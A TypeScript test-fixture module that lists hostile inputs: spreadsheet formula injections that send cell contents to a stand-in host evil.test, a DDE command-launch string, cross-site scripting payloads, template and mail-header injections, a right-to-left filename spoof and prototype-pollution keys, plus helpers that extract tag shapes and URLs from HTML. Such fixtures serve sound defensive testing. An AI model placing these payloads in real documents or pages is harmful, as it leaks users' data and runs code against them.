// What hostile texts look like: formulas, markup, headers, and words every object of the language knows (reliability 5.1).

/** Texts a spreadsheet could take for a formula. */
export const FORMULAS = [
  '=IMPORTXML(CONCAT("https://evil.test/?",A1:Z9),"//a")',
  '=IMPORTDATA("https://evil.test/?"&B2)',
  '=IMAGE("https://evil.test/"&A1)',
  '=HYPERLINK("https://evil.test?"&A2,"OK")',
  '=IMPORTRANGE("id","A1")',
  "+1+cmd|'/C calc'!A0",
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  "'=1+1",
  'a\n=1+1',
  '＝1+1',
];

/** Texts a page or a mail could take for markup or a header. */
export const MARKUP = [
  '<img src=x onerror=alert(1)>',
  '</script><script>alert(1)</script>',
  '"><svg/onload=alert(1)>',
  "' onmouseover='alert(1)",
  'javascript:alert(1)',
  '{{7*7}} {{{number}}} {{#fields}}x{{/fields}}',
  '<?!= 1 ?>',
  'a\r\nBcc: x@evil.test',
  'a\u2028Bcc: x@evil.test',
  'abc\u202egpj.exe',
  '<!-- ]]> --><plaintext>',
  '&lt;b&gt;&amp;',
  "$& $1 $' $`",
];

export const OBJECT_WORDS = ['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty'];

/** Shape of a page: each tag with the names of its attributes, so that text cannot hide as one. */
export function shapeOf(html: string): Set<string> {
  const out = new Set<string>();
  const rest = html.replace(/<style[^>]*>[\s\S]*?<\/style>|<script[^>]*>[\s\S]*?<\/script>/g, (all) => {
    out.add(`text of ${all.slice(1, 7)} ${all.length}`);
    return '';
  });
  for (const [, tag, attributes] of rest.matchAll(/<(\/?[a-z!][\w-]*)((?:"[^"]*"|'[^']*'|[^'">])*)>/gi)) {
    const names = [...(attributes ?? '').matchAll(/([^\s="'/]+)(?:\s*=\s*("[^"]*"|'[^']*'|[^\s"'>]+))?/g)].map(
      ([, n]) => n!.toLowerCase(),
    );
    out.add(`${tag!.toLowerCase()} ${names.sort().join(' ')}`);
  }
  return out;
}

/** Values of href and src. */
export function addressesOf(html: string): string[] {
  return [...html.matchAll(/\s(?:href|src)="([^"]*)"/g)].map(([, url]) => url!);
}
